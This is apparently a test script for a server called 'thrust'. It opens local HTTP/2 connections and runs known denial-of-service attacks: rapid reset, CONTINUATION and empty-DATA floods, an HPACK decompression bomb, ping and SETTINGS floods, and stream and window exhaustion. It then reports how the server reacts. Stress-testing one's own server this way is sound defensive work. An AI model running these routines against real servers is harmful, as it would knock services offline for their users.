"""Abusive HTTP/2 clients for thrust's tests, using the h2 library.

Usage: h2_abuse.py MODE PORT [N]
  rapid_reset N   open and immediately reset N streams (CVE-2023-44487)
  streams N       open N streams at once and never read their answers
  big_headers N   send one request whose header list is N bytes
  slow_window N   open N streams to a large download with a 1-byte window,
                  then never grant more
  continuation N  one HEADERS without END_HEADERS, then N CONTINUATION
                  frames of 16 KiB each (CVE-2024-27316), never reading
  ping N          N PINGs at once, never reading the answers
  settings N      N SETTINGS frames at once, never reading the ACKs
  empty_data N    a POST whose body is N empty DATA frames (CVE-2019-9518)
  hpack_bomb N    a 4 kB header put in the HPACK table, then one request
                  naming it N times (N x 4 kB decoded from N bytes)
The last five write raw frames after the preface and count the frames the
server sends back by type.
Connects with TLS (ALPN h2, certificate not checked) and prints one JSON
object: whether the server sent GOAWAY (and its code), streams refused or
reset, responses seen. Bounded: at most 15 seconds.
"""
import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings


def connect(port, settings=None, validate=True):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5), server_hostname="app.test")
    # validate=False: headers go out as given, even ones HTTP/2 forbids.
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                       validate_outbound_headers=validate, normalize_outbound_headers=validate)
    conn = h2.connection.H2Connection(config)
    conn.initiate_connection()
    if settings:
        conn.update_settings(settings)
    sock.sendall(conn.data_to_send())
    return sock, conn


def request(conn, stream_id, path, extra=()):
    conn.send_headers(stream_id, [(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", "app.test")] + list(extra), end_stream=True)


def received(sock, result, seconds, stop=lambda: False, tick=lambda: None):
    """What the server sends, read by read, for `seconds` or until `stop()`;
    `tick` runs between reads. Notes in `result` when the server closes."""
    deadline = time.time() + seconds
    while time.time() < deadline and not stop():
        tick()
        try:
            data = sock.recv(65535)
        except socket.timeout:
            continue
        except (ssl.SSLError, OSError):
            data = b""
        if not data:
            result["closed"] = True
            return
        yield data


def pump(sock, conn, result, seconds, stop=lambda r: False, read=False, tick=lambda: None):
    """Reads and answers frames for `seconds` or until `stop(result)`,
    counting what the server sends in `result`; with `read`, the answers'
    bytes are taken (window credit given back); `tick` runs between reads."""
    sock.settimeout(0.05 if read else 0.5)
    for data in received(sock, result, seconds, lambda: stop(result), tick):
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            # A GOAWAY followed by more frames in one read: the library has
            # closed the connection on the GOAWAY and refuses the rest.
            if conn.state_machine.state == h2.connection.ConnectionState.CLOSED:
                result.setdefault("goaway", "received")
            else:
                result["protocol_error"] = str(e)
            return
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                result["goaway"] = int(event.error_code)
            elif isinstance(event, h2.events.StreamReset):
                result["resets"] = result.get("resets", 0) + 1
                result.setdefault("reset_codes", []).append(int(event.error_code)) if len(result.get("reset_codes", [])) < 5 else None
            elif isinstance(event, h2.events.ResponseReceived):
                result["responses"] = result.get("responses", 0) + 1
                status = dict(event.headers).get(":status", "")
                if not status.startswith("1"):
                    result["status"] = int(status)
            elif isinstance(event, h2.events.StreamEnded):
                result["ended"] = result.get("ended", 0) + 1
            elif isinstance(event, h2.events.DataReceived) and read:
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            result["closed"] = True
            return


FRAME_TYPES = {0: "data", 1: "headers", 3: "rst_stream", 4: "settings", 6: "ping", 7: "goaway", 8: "window_update"}


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def hpack_int(value, prefix_bits, first):
    # RFC 7541 §5.1: an integer with an N-bit prefix.
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def request_block(extra=b"", method=b"\x82"):
    # :method (GET, or \x83 POST), :scheme https, :path /, then :authority
    # app.test (literal).
    authority = b"\x01" + hpack_int(8, 7, 0) + b"app.test"
    return method + b"\x87\x84" + authority + extra


def raw_pump(sock, result, seconds):
    """Reads what the server sends for `seconds` (or until it closes),
    counting its frames by type and noting a GOAWAY's code."""
    sock.settimeout(0.2)
    buffer = b""
    for data in received(sock, result, seconds):
        buffer += data
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, payload = buffer[3], buffer[9:9 + length]
            name = FRAME_TYPES.get(kind, "other")
            result[name] = result.get(name, 0) + 1
            if kind == 7 and len(payload) >= 8:
                result["goaway"] = int.from_bytes(payload[4:8], "big")
            buffer = buffer[9 + length:]


def raw_abuse(mode, sock, n, result):
    """Writes the raw frames of `mode` (the preface is already sent)."""
    if mode == "continuation":
        sock.sendall(frame(1, 0, 1, request_block()))
        # Literal headers without indexing, 16 KiB each, never ending.
        chunk = frame(9, 0, 1, b"\x00" + hpack_int(10, 7, 0) + b"x-continue" + hpack_int(16000, 7, 0) + b"c" * 16000)
        for _ in range(n):
            sock.sendall(chunk)
    elif mode == "ping":
        sock.sendall(b"".join(frame(6, 0, 0, struct.pack(">Q", i)) for i in range(n)))
    elif mode == "settings":
        one = frame(4, 0, 0, struct.pack(">HI", 0x3, 100))
        sock.sendall(one * n)
    elif mode == "empty_data":
        sock.sendall(frame(1, 0x4, 1, request_block(method=b"\x83")))
        empty = frame(0, 0, 1)
        for start in range(0, n, 10000):
            sock.sendall(empty * min(10000, n - start))
    elif mode == "hpack_bomb":
        # Fits the default 4 KiB HPACK table (with its 32-byte overhead).
        value = b"b" * 4000
        insert = b"\x40" + hpack_int(6, 7, 0) + b"x-bomb" + hpack_int(len(value), 7, 0) + value
        # Index 62: the first entry of the dynamic table. The block in
        # frames within the default 16 KiB frame size: HEADERS, then
        # CONTINUATIONs, the last one ending the headers.
        block = request_block(insert + b"\xbe" * n)
        parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        for i, part in enumerate(parts):
            last = 0x4 if i == len(parts) - 1 else 0
            sock.sendall(frame(1, 0x1 | last, 1, part) if i == 0 else frame(9, last, 1, part))
    raw_pump(sock, result, 5)


RAW_MODES = ("continuation", "ping", "settings", "empty_data", "hpack_bomb")


def main():
    mode, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]) if len(sys.argv) > 3 else 0
    result = {"mode": mode}
    if mode == "slow_window":
        sock, conn = connect(port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1})
    else:
        sock, conn = connect(port)
    try:
        if mode in RAW_MODES:
            raw_abuse(mode, sock, n, result)
        elif mode == "rapid_reset":
            for i in range(n):
                stream_id = conn.get_next_available_stream_id()
                request(conn, stream_id, "/hang?seconds=5")
                conn.reset_stream(stream_id)
                if i % 100 == 0:
                    sock.sendall(conn.data_to_send())
            sock.sendall(conn.data_to_send())
            pump(sock, conn, result, 5, lambda r: "goaway" in r or r.get("closed"))
        elif mode == "streams":
            for _ in range(n):
                stream_id = conn.get_next_available_stream_id()
                request(conn, stream_id, "/hang?seconds=8")
            sock.sendall(conn.data_to_send())
            pump(sock, conn, result, 3)
        elif mode == "big_headers":
            request(conn, 1, "/", [("x-big-%d" % i, "v" * 1000) for i in range(n // 1000)])
            sock.sendall(conn.data_to_send())
            pump(sock, conn, result, 3, lambda r: r.get("resets") or "goaway" in r or r.get("responses"))
        elif mode == "slow_window":
            pump(sock, conn, result, 0.5)
            for _ in range(n):
                stream_id = conn.get_next_available_stream_id()
                request(conn, stream_id, "/download?bytes=10000000")
            sock.sendall(conn.data_to_send())
            pump(sock, conn, result, 4)
    except (OSError, ssl.SSLError, h2.exceptions.ProtocolError) as e:
        # The server hung up on us mid-abuse.
        result["closed"] = True
        result["error"] = type(e).__name__
    print(json.dumps(result))


if __name__ == "__main__":
    main()
